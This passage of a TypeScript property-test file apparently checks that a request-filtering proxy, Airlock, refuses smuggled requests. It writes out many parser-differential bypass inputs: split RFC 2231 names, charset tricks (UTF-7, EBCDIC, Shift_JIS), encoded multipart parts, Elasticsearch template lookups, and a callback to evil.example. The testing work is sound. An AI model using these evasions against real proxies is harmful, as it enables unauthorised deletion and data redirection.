    const [res] = parseResponses((await postToPyBatch(path, sp.type, body(sp.d, sp.params(name), shape, false), i % 3 === 1)).text);
    const read = !opts.flaskReads || pyBatchLog.slice(before).includes(`FIELD ${name}=`);
    t.ok(res?.status === 200 && read, `control: a ${shape} of allowed targets (${sp.type}; ${sp.params(name)}) goes through${opts.flaskReads ? ' and Flask reads it' : ''} (${res?.status})`);
  }
  const shapeNames = Object.keys(shapes) as Shape[];
  await fc.assert(fc.asyncProperty(
    fc.record({ sp: fc.constantFrom(...spellings), shape: fc.constantFrom(...shapeNames), tunnel: fc.boolean() }),
    async ({ sp, shape, tunnel }) => {
      const before = pyBatchLog.length;
      const [path, name] = shapes[shape];
      const [res] = parseResponses((await postToPyBatch(path, sp.type, body(sp.d, sp.params(name), shape, true), tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: opts.numRuns, ...seed, examples: (opts.examples ?? []).map((k, j) => [{ sp: spellings[k]!, shape: shapeNames[j % 2]!, tunnel: j % 2 === 1 }]) });
}

t.test('property: a part name or a boundary in RFC 2231 pieces as Werkzeug joins them (in the order they stand, after a plain value), or on a folded head line, is read by that name', async (t) => {
  // Twenty-third pass: Werkzeug (Flask) joins `name*N` pieces in the order they stand, whatever
  // their numbers, and appends them to a plain `name=` (`name=ba; name*1=tch` is `batch`), where
  // RFC 2231 readers (Python's email, Go) sort them and keep the plain value apart: a Graph API
  // `batch` or an S3 form upload's `key` so named, or a form under `boundary*1=yZ; boundary*0=X`
  // (`yZX` to Flask), reached the server undecided.
  // A name's parameters that Werkzeug reads as `n`: pieces out of order, after a plain value, quoted.
  const names: Array<(n: string) => string> = [
    (n) => `name*1=${n.slice(0, 2)}; name*0=${n.slice(2)}`,
    (n) => `name=${n.slice(0, 2)}; name*1=${n.slice(2)}`,
    (n) => `name="${n.slice(0, 1)}"; name*7="${n.slice(1)}"`,
    (n) => `name*2=${n.slice(0, 1)}; name*1=${n.slice(1, 3)}; name*0=${n.slice(3)}`,
    (n) => `name*=utf-8''${n.slice(0, 2)}; name*0*=${[...n.slice(2)].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`,
    // (And folded: Go, Werkzeug, Python's email and busboy join a line that starts with a blank to the one before.)
    (n) => `x=1\r\n ; name="${n}"`,
    (n) => `name=\r\n\t"${n}"`,
  ];
  // A boundary parameter Werkzeug reads as `d`, and one other readers take from it.
  const boundaries: Array<[string, string]> = [['boundary*1=yZ; boundary*0=X', 'yZX'], ['boundary=Xy; boundary*1=Z', 'XyZ'], ['boundary="X"; boundary*3="yZ"', 'XyZ']];
  await partSpellingsRead(t, [
    ...names.map((params) => ({ type: 'multipart/form-data; boundary=b0', d: 'b0', params })),
    ...boundaries.map(([param, d]) => ({ type: `multipart/form-data; ${param}`, d, params: (n: string) => `name="${n}"` })),
  ], { flaskReads: true, numRuns: Math.min(numRuns, 16), examples: [5, 6] });
});

t.test('property: a part name or a boundary spelled as @fastify/busboy reads it (blanks dropped, quoted pieces joined) is read by that name', async (t) => {
  // Twenty-third pass: Fastify's multipart plugin (@fastify/busboy) drops blanks and tabs outside
  // quotes from parameter keys and values and joins a quoted piece to what stood before it, so
  // `na me=batch`, `name=ba tch` and `name=ba"tch"` name the field `batch` there (each checked
  // against @fastify/busboy 3.2, which this project does not install; the server here logs what
  // `email` and Werkzeug read), and `bound ary=X` gives the boundary. Airlock read no such name.
  const names: Array<(n: string) => string> = [
    (n) => `na me=${n}`,
    (n) => `n\tame="${n}"`,
    (n) => `name=${n.slice(0, 2)} ${n.slice(2)}`,
    (n) => `name=${n.slice(0, 2)}"${n.slice(2)}"`,
    (n) => `name = ${[...n].join(' ')}`,
  ];
  await partSpellingsRead(t, [
    ...names.map((params) => ({ type: 'multipart/form-data; boundary=b0', d: 'b0', params })),
    { type: 'multipart/form-data; bound ary=XyZ', d: 'XyZ', params: (n: string) => `name="${n}"` },
    { type: 'multipart/form-data; boundary=Xy"Z"', d: 'XyZ', params: (n: string) => `name="${n}"` },
  ], { flaskReads: false, numRuns: Math.min(numRuns, 14) });
});

t.test('property: a search template whose member names or raw insertions come from its params is read as it renders (inline) or refused (stored)', async (t) => {
  // Eighteenth pass: `{"source": "{\"query\": {\"terms\": {\"user\": {\"{{k}}\": \"deny\", …}}}}",
  // "params": {"k": "index"}}` named no lookup as written (the member is `{{k}}`), and a raw
  // `{{{q}}}` with `q` a JSON text named none at all; Elasticsearch rendered both to a terms lookup
  // of a document in deny. Stored under `_scripts` and run by id, the same.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const lookup = JSON.stringify({ terms: { user: { index: 'deny', id: '2', path: 'f' } } });
  // [template source, params]: each renders to a terms lookup of a document of deny.
  const templates: Record<string, [string, Record<string, unknown>]> = {
    'member from a param': ['{"query": {"terms": {"user": {"{{k}}": "deny", "id": "2", "path": "f"}}}}', { k: 'index' }],
    'member from two params': ['{"query": {"terms": {"user": {"{{a}}{{b}}": "deny", "id": "2", "path": "f"}}}}', { a: 'ind', b: 'ex' }],
    'raw insertion': ['{"query": {{{q}}}}', { q: lookup }],
    'raw & insertion': ['{"query": {{& q}}}', { q: lookup }],
    'raw pieces': ['{"query": {"terms": {"user": {{{a}}}{{{b}}}}}}', { a: '{"ind', b: 'ex": "deny", "id": "2", "path": "f"}' }],
  };
  const from = esRan.length;
  const ran = (): boolean => esRan.slice(from).some((r) => r === 'lookup deny');
  for (const [i, body] of [
    { source: '{"query": {"match": {"{{field}}": "{{q}}"}}}', params: { field: 'title', q: 'the index of books' } },
    { source: '{"query": {{{q}}}}', params: { q: '{"match": {"title": "index"}}' } },
    { source: { query: { match: { t: '{{q}}' } } }, params: { q: 'x' } },
  ].entries()) {
    t.match((await send('/ok/_search/template', JSON.stringify(body), i % 2 === 1)).text, /^HTTP\/1\.1 200/, `control: an inline template rendering a search of the allowed index goes through (${i})`);
  }
  t.match((await send('/_scripts/plain', JSON.stringify({ script: { lang: 'mustache', source: '{"query": {"match": {"t": "{{q}}"}}}' } }), false)).text, /^HTTP\/1\.1 200/, 'control: storing a template with params in values goes through');
  t.notOk(ran(), 'the controls looked up nothing in deny');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({ name: fc.constantFrom(...Object.keys(templates)), how: fc.constantFrom('inline string', 'inline object', 'stored, run by id'), tunnel: fc.boolean() }),
    async ({ name, how, tunnel }) => {
      const [source, params] = templates[name]!;
      let object: unknown;
      try {
        object = JSON.parse(source);
      } catch {
        if (how === 'inline object') return true; // a raw insertion is no JSON object
      }
      const responses: Array<ReturnType<typeof parseResponses>[number] | undefined> = [];
      if (how === 'stored, run by id') {
        const id = `t${n++}`;
        responses.push(parseResponses((await send(`/_scripts/${id}`, JSON.stringify({ script: { lang: 'mustache', source } }), tunnel)).text)[0]);
        responses.push(parseResponses((await send('/ok/_search/template', JSON.stringify({ id, params }), tunnel)).text)[0]);
        // The store is refused; the run (of nothing stored) does nothing.
        return responses[0] !== undefined && [400, 403].includes(responses[0].status) && isProblem(responses[0]) && !ran();
      }
      const [res] = parseResponses((await send('/ok/_search/template', JSON.stringify({ source: how === 'inline object' ? object : source, params }), tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !ran();
    },
  ), { numRuns: Math.min(numRuns, 20), ...seed });
  // Run by id, params carrying the lookup as JSON text (for a template stored before): read, refused.
  const [byId] = parseResponses((await send('/ok/_search/template', JSON.stringify({ id: 'plain', params: { q: lookup } }), false)).text);
  t.ok(byId !== undefined && [400, 403].includes(byId.status) && isProblem(byId), `a template run by id whose params carry a lookup as JSON text: refused (${byId?.status})`);
  // Twenty-first pass (left open since the seventeenth): a template stored before Airlock ran (or by
  // another client) that takes a lookup's index from a param, run by id with that param naming deny.
  storedScripts.set('pre-lookup', '{"query": {"terms": {"user": {"index": "{{i}}", "id": "2", "path": "f"}}}}');
  for (const [i, [path, params]] of ([['/ok/_search/template', { i: 'ok' }], ['/ok/_search/template', { i: 'ok', note: 'Hello world' }]] as const).entries()) {
    const before = esRan.length;
    const [res] = parseResponses((await send(path, JSON.stringify({ id: 'pre-lookup', params }), i % 2 === 1)).text);
    t.ok(res?.status === 200 && esRan.slice(before).includes('lookup ok'), `control: a template stored before, run by id with params naming the allowed index, goes through (${res?.status})`);
  }
  t.match((await send('/ok/_search/template', JSON.stringify({ id: 'plain', params: { q: 'The Index of books' } }), false)).text, /^HTTP\/1\.1 200/, 'control: a template run by id with a phrase for a param goes through');
  for (const [i, [path, params]] of ([
    ['/ok/_search/template', { i: 'deny' }],
    ['/_search/template', { i: 'deny' }],
    ['/ok/_search/template', { i: 'ok,deny' }],
    ['/ok/_search/template/', { note: 'x', i: 'deny' }],
  ] as const).entries()) {
    const [res] = parseResponses((await send(path, JSON.stringify({ id: 'pre-lookup', params }), i % 2 === 0)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res), `a template stored before, run by id at ${path} with params ${JSON.stringify(params)}: refused (${res?.status})`);
  }
  t.notOk(ran(), 'the server never looked up a document of deny');
});

t.test('property: a form field under a Content-Transfer-Encoding (base64, quoted-printable) is read decoded, as Python\'s email, Django and python-multipart read it', async (t) => {
  // Eighteenth pass: a Graph API `batch` part labelled `Content-Transfer-Encoding: base64` was read
  // as its base64 text (no list: no call to decide) while a MIME-aware server decoded it and ran DELETE /deny.
  const post = (path: string, body: string, tunnel: boolean): Promise<{ text: string }> => postToPyBatch(path, 'multipart/form-data; boundary=X', body, tunnel);
  const encode = (value: string, cte: string): string => (/base64/i.test(cte) ? Buffer.from(value).toString('base64').replace(/(.{76})/g, '$1\r\n') : [...value].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('').replace(/(.{72})/g, '$1=\r\n'));
  const part = (name: string, value: string, cte: string, file = false): string => `--X\r\nContent-Disposition: form-data; name="${name}"${file ? '; filename="f.txt"' : ''}\r\nContent-Transfer-Encoding: ${cte}\r\n\r\n${encode(value, cte)}\r\n`;
  const calls = (target: string): string => JSON.stringify([{ method: 'GET', relative_url: 'ok/a.txt' }, { method: 'DELETE', relative_url: target }]);
  const before0 = pyBatchLog.length;
  t.match((await post('/', `${part('batch', calls('ok/b.txt'), 'base64')}--X--\r\n`, false)).text, /^HTTP\/1\.1 200/, 'control: a base64 batch of allowed calls goes through');
  t.match(pyBatchLog.slice(before0), /FIELD batch=\[/, 'control: the server read it decoded');
  await fc.assert(fc.asyncProperty(
    fc.record({ cte: fc.constantFrom('base64', 'BASE64', 'quoted-printable', 'Quoted-Printable'), shape: fc.constantFrom('Graph batch', 'form upload key'), tunnel: fc.boolean() }),
    async ({ cte, shape, tunnel }) => {
      const before = pyBatchLog.length;
      const [path, body] = shape === 'Graph batch'
        ? ['/', `${part('batch', calls('deny/secret.txt'), cte)}--X--\r\n`]
        : ['/ok', `${part('key', 'protected/keep.txt', cte)}--X\r\nContent-Disposition: form-data; name="file"; filename="f.txt"\r\n\r\ndata\r\n--X--\r\n`];
      const [res] = parseResponses((await post(path, body, tunnel)).text);
      const got = pyBatchLog.slice(before);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !got.includes('deny/secret') && !got.includes('protected/');
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
});

t.test('property: a UTF-16/32 JSON body with an unpaired surrogate is read as Python\'s json.loads reads it (surrogatepass), not skipped as unreadable', async (t) => {
  // Eighteenth pass: `{"pad": "\ud800", "batch": [...]}` in UTF-16 failed Airlock's strict decoding, so
  // the readers that read any host's body (Graph batch, atomic operations) skipped it as unreadable;
  // Python's json.loads decodes UTF-16/32 with `surrogatepass` and the server ran DELETE /deny.
  const dHost = `allowed.example:${dav.port}`;
  const encode = (text: string, how: string): { bytes: Buffer; charset?: string } => {
    const units = (be: boolean): Buffer => {
      const b = Buffer.alloc(text.length * 2);
      for (let i = 0; i < text.length; i++) if (be) b.writeUInt16BE(text.charCodeAt(i), 2 * i); else b.writeUInt16LE(text.charCodeAt(i), 2 * i);
      return b;
    };
    switch (how) {
      case 'UTF-16LE BOM': return { bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), units(false)]) };
      case 'UTF-16BE BOM': return { bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), units(true)]) };
      case 'charset=utf-16le': return { bytes: units(false), charset: 'utf-16le' };
      default: { // UTF-32LE without a mark, the surrogate as its own code point
        const b = Buffer.alloc(text.length * 4);
        for (let i = 0; i < text.length; i++) b.writeUInt32LE(text.charCodeAt(i), 4 * i);
        return { bytes: b };
      }
    }
  };
  const send = (path: string, enc: { bytes: Buffer; charset?: string }, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`Content-Type: application/json${enc.charset ? `; charset=${enc.charset}` : ''}\r\nContent-Length: ${enc.bytes.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n`), head, enc.bytes], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, enc.bytes], { responses: 1 });
  };
  const bodies = {
    'Graph batch': (target: string, lone: string): [string, string] => ['/', `{"pad": "${lone}x", "batch": [{"method": "DELETE", "relative_url": "${target}"}]}`],
    'atomic operations': (target: string, lone: string): [string, string] => ['/ok/operations', `{"meta": {"note": "${lone}"}, "atomic:operations": [{"op": "remove", "href": "/${target}"}]}`],
  };
  const [cPath, cText] = bodies['Graph batch']('ok/dav/a.txt', '\ud800');
  t.match((await send(cPath, encode(cText, 'UTF-16LE BOM'), false)).text, /^HTTP\/1\.1 200/, 'control: a UTF-16 batch of allowed calls with an unpaired surrogate goes through');
  await fc.assert(fc.asyncProperty(
    fc.record({
      body: fc.constantFrom(...(Object.keys(bodies) as Array<keyof typeof bodies>)),
      how: fc.constantFrom('UTF-16LE BOM', 'UTF-16BE BOM', 'charset=utf-16le', 'UTF-32LE'),
      lone: fc.constantFrom('\ud800', '\udfff', '\udc00\udc00'),
      tunnel: fc.boolean(),
    }),
    async ({ body, how, lone, tunnel }) => {
      const [path, text] = bodies[body]('deny/secret.txt', lone);
      const before = batchRan.length;
      const [res] = parseResponses((await send(path, encode(text, how), tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
});

t.test('property: a body (or a multipart part) in a charset its server decodes by the label (UTF-7, EBCDIC, Shift_JIS, ISO-2022-JP, UTF-16) is read as that server reads it, or refused', async (t) => {
  // Twentieth pass: the readers of any host's body read it as UTF-8 bytes whatever its charset said,
  // while Spring's Jackson converter and Django REST Framework's JSONParser (and Django's form
  // parsing) decode it by the label: `{"+AGI-atch": [...]}` under `charset=utf-7` is a Graph batch
  // to them, an EBCDIC body is no JSON to Airlock at all, a Shift_JIS `"\x81\"` ends a string the UTF-8
  // reading continues (the batch hid inside it), ISO-2022-JP's escape sequences decode to nothing.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, type: string, bytes: Buffer, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`Content-Type: ${type}\r\nContent-Length: ${bytes.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n`), head, bytes], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, bytes], { responses: 1 });
  };
  // Each charset hides a member name its own way; the bytes are what Python's codecs (the server's) make of the text.
  // (The EBCDIC texts are ASCII: each code page's bytes for ASCII, from Python's codecs once.)
  const ascii = String.fromCharCode(...Array.from({ length: 128 }, (_, i) => i));
  const tables = Object.fromEntries(['cp037', 'cp1140'].map((cs) => [cs, spawnSync('python3', ['-c', 'import sys; sys.stdout.buffer.write(sys.stdin.buffer.read().decode().encode(sys.argv[1]))', cs], { input: ascii }).stdout]));
  const pyEncode = (text: string, charset: string): Buffer => Buffer.from([...text].map((c) => tables[charset]![c.charCodeAt(0)]!));
  const hide = (name: string, charset: string, pad: string): Buffer => {
    switch (charset) {
      case 'utf-7': return Buffer.from(`{"pad": "${pad}", "+${Buffer.from(`\0${name[0]}`).toString('base64').replace(/=+$/, '')}-${name.slice(1)}": `); // `+AGI-atch`
      case 'shift_jis': return Buffer.concat([Buffer.from(`{"pad": "${pad}", "a": "`), Buffer.from([0x81, 0x5c]), Buffer.from(`", "${name}": `)]);
      case 'iso-2022-jp': return Buffer.from(`{"pad": "${pad}", "${name[0]}\x1b(B${name.slice(1)}": `);
      default: return pyEncode(`{"pad": "${pad}", "${name}": `, charset);
    }
  };
  const tail = (charset: string): Buffer => charset === 'shift_jis' ? Buffer.concat([Buffer.from(', "z": "'), Buffer.from([0x81, 0x5c]), Buffer.from('"}')]) : ['utf-7', 'iso-2022-jp'].includes(charset) ? Buffer.from('}') : pyEncode('}', charset);
  const value = (v: unknown, charset: string): Buffer => ['utf-7', 'shift_jis', 'iso-2022-jp'].includes(charset) ? Buffer.from(JSON.stringify(v)) : pyEncode(JSON.stringify(v), charset);
  const shapes = {
    'Graph batch': (ok: boolean): [string, string, unknown] => ['/', 'batch', [{ method: 'DELETE', relative_url: ok ? 'ok/dav/x.txt' : 'deny/secret.txt' }]],
    'atomic operations': (ok: boolean): [string, string, unknown] => ['/ok/operations', 'atomic:operations', [{ op: 'remove', href: ok ? '/ok/2' : '/deny/2' }]],
    'callback': (ok: boolean): [string, string, unknown] => ['/ok/subscriptions', 'notificationUrl', ok ? `http://${dHost}/ok/cb` : 'https://evil.example/cb'],
  };
  const bodyOf = (shape: keyof typeof shapes, charset: string, pad: string, ok: boolean, rename?: string): [string, Buffer] => {
    const [path, name, v] = shapes[shape](ok);
    return [path, Buffer.concat([hide(rename ?? name, charset, pad), value(v, charset), tail(charset)])];
  };
  const pads = { small: 'x', 'past the capture cap': crypto.randomBytes(150_000).toString('hex') };
  // A multipart `batch` part in the charset its own Content-Type declares (busboy decodes a field so).
  const part = (charset: string, calls: unknown): Buffer => {
    const text = JSON.stringify(calls);
    const bytes = charset === 'utf-16le' ? Buffer.from(text, 'utf16le') : charset === 'utf-7' ? Buffer.from(text.replace('[', '+AFs-')) : pyEncode(text, charset);
    return Buffer.concat([Buffer.from(`--fb\r\nContent-Disposition: form-data; name="batch"\r\nContent-Type: text/plain; charset=${charset}\r\n\r\n`), bytes, Buffer.from('\r\n--fb--\r\n')]);
  };
  for (const [i, charset] of ['utf-16le', 'utf-7', 'cp037'].entries()) {
    const before = batchRan.length;
    const [res] = parseResponses((await send('/', 'multipart/form-data; boundary=fb', part(charset, [{ method: 'DELETE', relative_url: 'deny/secret.txt' }]), i % 2 === 1)).text);
    t.ok(res !== undefined && [403, 415].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny')), `a multipart batch part in ${charset} is decided or refused (${res?.status})`);
  }
  t.equal(parseResponses((await send('/', 'multipart/form-data; boundary=fb', part('utf-16le', [{ method: 'GET', relative_url: 'ok/dav/a.txt' }]), false)).text)[0]?.status, 200, 'control: a UTF-16 multipart batch of allowed calls goes through');
  // Controls: the legacy charsets Airlock reads, naming allowed calls and the allowed host, go through;
  // past the capture cap, such a body naming nothing the watches stop for does too.
  for (const [i, shape] of (Object.keys(shapes) as Array<keyof typeof shapes>).entries()) {
    for (const charset of ['shift_jis', 'iso-2022-jp']) {
      const [path, bytes] = bodyOf(shape, charset, 'x', true);
      const [res] = parseResponses((await send(path, `application/json; charset=${charset}`, bytes, i % 2 === 0)).text);
      t.ok(res !== undefined && !isProblem(res), `control: a ${charset} ${shape} naming allowed targets goes through (${res?.status})`);
      const [, large] = bodyOf(shape, charset, pads['past the capture cap'], true, 'notes');
      const [big] = parseResponses((await send('/ok/dav/x.json', `application/json; charset=${charset}`, large, i % 2 === 1)).text);
      t.ok(big !== undefined && !isProblem(big), `control: a ${charset} body past the capture cap naming no batch or callback goes through (${big?.status})`);
    }
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      shape: fc.constantFrom(...(Object.keys(shapes) as Array<keyof typeof shapes>)),
      charset: fc.constantFrom('utf-7', 'cp037', 'cp1140', 'shift_jis', 'iso-2022-jp'),
      label: fc.constantFrom('charset=%s', 'charset="%s"', "charset*=utf-8''%s"),
      size: fc.constantFrom(...(Object.keys(pads) as Array<keyof typeof pads>)),
      tunnel: fc.boolean(),
    }),
    async ({ shape, charset, label, size, tunnel }) => {
      const [path, bytes] = bodyOf(shape, charset, pads[size], false);
      const ran = [batchRan.length, sentTo.length];
      const [res] = parseResponses((await send(path, `application/json; ${label.replace('%s', charset)}`, bytes, tunnel)).text);
      return res !== undefined && [400, 403, 415].includes(res.status) && isProblem(res) && !batchRan.slice(ran[0]).some((c) => c.includes('/deny')) && sentTo.length === ran[1];
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed, examples: [[{ shape: 'Graph batch', charset: 'utf-7', label: 'charset=%s', size: 'small', tunnel: false }], [{ shape: 'callback', charset: 'shift_jis', label: 'charset=%s', size: 'past the capture cap', tunnel: true }], [{ shape: 'Graph batch', charset: 'iso-2022-jp', label: 'charset=%s', size: 'past the capture cap', tunnel: false }]] });
});

t.test('property: a multipart field without its own charset is read in the form\'s default charset (a `_charset_` field, RFC 7578 §4.6 as Jetty reads it; the top-level charset as Tomcat and Spring read it), or refused', async (t) => {
  // Twenty-first pass: only a part's own Content-Type charset was read, while Jetty decodes a field
  // that declares none by the value of a `_charset_` field, and Tomcat's and Spring's multipart
  // readers by the request's charset: a `batch` field in UTF-16, EBCDIC or UTF-7 named no call to
  // Airlock, a Shift_JIS or Big5 `"\x81\"` ended a string its UTF-8 reading continued.
  const dHost = `allowed.example:${dav.port}`;
  const send = (type: string, bytes: Buffer, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`Content-Type: ${type}\r\nContent-Length: ${bytes.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST / HTTP/1.1\r\nHost: ${dHost}\r\n`), head, bytes], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}/ HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, bytes], { responses: 1 });
  };
  const py = (text: string, charset: string): Buffer => spawnSync('python3', ['-c', 'import sys; sys.stdout.buffer.write(sys.stdin.buffer.read().decode().encode(sys.argv[1]))', charset], { input: text }).stdout;
  // The calls as the charset spells them: wide and EBCDIC bytes, UTF-7's `+AFs-` for `[`, and in
  // Shift_JIS and Big5 a lead byte that takes the backslash after it (`\x81\` one character), so the
  // quote after it ends the string where a UTF-8 reading sees `\"` and reads on.
  const calls = (charset: string, ok: boolean): Buffer => {
    const target = ok ? 'ok/dav/x.txt' : 'deny/secret.txt';
    switch (charset) {
      case 'utf-16le': return Buffer.from(JSON.stringify([{ method: 'DELETE', relative_url: target }]), 'utf16le');
      case 'utf-7': return Buffer.from(JSON.stringify([{ method: 'DELETE', relative_url: target }]).replace('[', '+AFs-'));
      case 'cp037': return py(JSON.stringify([{ method: 'DELETE', relative_url: target }]), 'cp037');
      default: {
        const lead = Buffer.from([charset === 'big5' ? 0xa4 : 0x81, 0x5c]);
        return Buffer.concat([Buffer.from('[{"method": "GET", "relative_url": "ok/dav/a.txt?q='), lead, Buffer.from(`"}, {"method": "DELETE", "relative_url": "${target}"}]`)]);
      }
    }
  };
  const bodyOf = (charset: string, where: string, ok: boolean): { type: string; bytes: Buffer } => {
    const field = (name: string, value: Buffer): Buffer => Buffer.concat([Buffer.from(`--fb\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n`), value, Buffer.from('\r\n')]);
    const parts = where === '_charset_ before' ? [field('_charset_', Buffer.from(charset)), field('batch', calls(charset, ok))]
      : where === '_charset_ after' ? [field('batch', calls(charset, ok)), field('_charset_', Buffer.from(charset))]
      // Follow-up: harmless `_charset_` fields first, more than a reader keeps, then the one a last-wins server takes.
      : where === '_charset_ last of six' ? [...['utf-8', 'windows-1252', 'koi8-r', 'iso-8859-2', 'iso-8859-5'].map((l) => field('_charset_', Buffer.from(l))), field('batch', calls(charset, ok)), field('_charset_', Buffer.from(charset))]
      : [field('batch', calls(charset, ok))];
    const label = where === 'top-level charset' ? `; charset=${charset}` : where === 'top-level charset quoted' ? `; charset="${charset}"` : '';
    return { type: `multipart/form-data; boundary=fb${label}`, bytes: Buffer.concat([...parts, Buffer.from('--fb--\r\n')]) };
  };
  const wheres = ['_charset_ before', '_charset_ after', '_charset_ last of six', 'top-level charset', 'top-level charset quoted'];
  // Controls: calls to allowed paths in the charsets Airlock decodes go through and run.
  for (const [i, [charset, where]] of ([['utf-16le', '_charset_ before'], ['shift_jis', '_charset_ after'], ['big5', 'top-level charset']] as const).entries()) {
    const before = batchRan.length;
    const { type, bytes } = bodyOf(charset, where, true);
    const [res] = parseResponses((await send(type, bytes, i % 2 === 1)).text);
    t.ok(res?.status === 200 && batchRan.slice(before).includes('DELETE /ok/dav/x.txt'), `control: a ${charset} batch by ${where} of allowed calls goes through (${res?.status})`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({ charset: fc.constantFrom('utf-16le', 'utf-7', 'cp037', 'shift_jis', 'big5'), where: fc.constantFrom(...wheres), tunnel: fc.boolean() }),
    async ({ charset, where, tunnel }) => {
      const before = batchRan.length;
      const { type, bytes } = bodyOf(charset, where, false);
      const [res] = parseResponses((await send(type, bytes, tunnel)).text);
      return res !== undefined && [400, 403, 415].includes(res.status) && isProblem(res) && !batchRan.slice(before).some((c) => c.includes('/deny'));
    },
  ), { numRuns: Math.min(numRuns, 16), ...seed, examples: [[{ charset: 'utf-16le', where: '_charset_ last of six', tunnel: false }], [{ charset: 'utf-16le', where: '_charset_ before', tunnel: false }], [{ charset: 'shift_jis', where: '_charset_ after', tunnel: true }], [{ charset: 'big5', where: 'top-level charset', tunnel: false }], [{ charset: 'cp037', where: '_charset_ before', tunnel: false }]] });
});

t.test('property: a SOAP message\'s WS-Addressing ReplyTo or FaultTo past the capture cap is read as it leaves: one naming another address stops the upload', async (t) => {
  // Twentieth pass (left open by the nineteenth): the reader reads the captured start, and XML bodies
  // were not watched as they leave, so a ReplyTo after a large header (a padding element, a
  // WS-Security token) had CXF, Axis2 or WCF post the answer to an address nobody decided.
  const dHost = `allowed.example:${dav.port}`;
  const send = (type: string | undefined, pieces: Buffer[], extra: string, tunnel: boolean): Promise<{ text: string }> => {
    const length = pieces.reduce((n, p) => n + p.length, 0);
    const head = Buffer.from(`${type === undefined ? '' : `Content-Type: ${type}\r\n`}${extra}Content-Length: ${length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST /ok/soap HTTP/1.1\r\nHost: ${dHost}\r\n`), head, ...pieces], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}/ok/soap HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, ...pieces], { responses: 1 });
  };
  const pad = crypto.randomBytes(150_000).toString('hex');
  const envelope = (address: string, element: string, prefix: string, before: boolean): string => {
    const reply = `<${prefix}${element}>\n  <${prefix}Address>${address}</${prefix}Address>\n</${prefix}${element}>`;
    const padding = `<x:Padding xmlns:x="urn:pad">${pad}</x:Padding>`;
    return `<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:${prefix ? prefix.slice(0, -1) : 'x0'}="http://www.w3.org/2005/08/addressing"><soap:Header><${prefix}Action>urn:echo</${prefix}Action>${before ? reply + padding : padding + reply}</soap:Header><soap:Body><echo>hi</echo></soap:Body></soap:Envelope>`;
  };
  const bytesOf = (text: string, coding: string): { body: Buffer; extra: string } => coding === 'gzip' ? { body: zlib.gzipSync(text), extra: 'Content-Encoding: gzip\r\n' } : { body: Buffer.from(text), extra: '' };
  // (Cut where the element's name is, so its opening arrives in two pieces.)
  const pieces = (body: Buffer, cut: boolean): Buffer[] => {
    const at = body.lastIndexOf('To>');
    return cut && at > 0 ? [body.subarray(0, at - 3), body.subarray(at - 3)] : [body];
  };
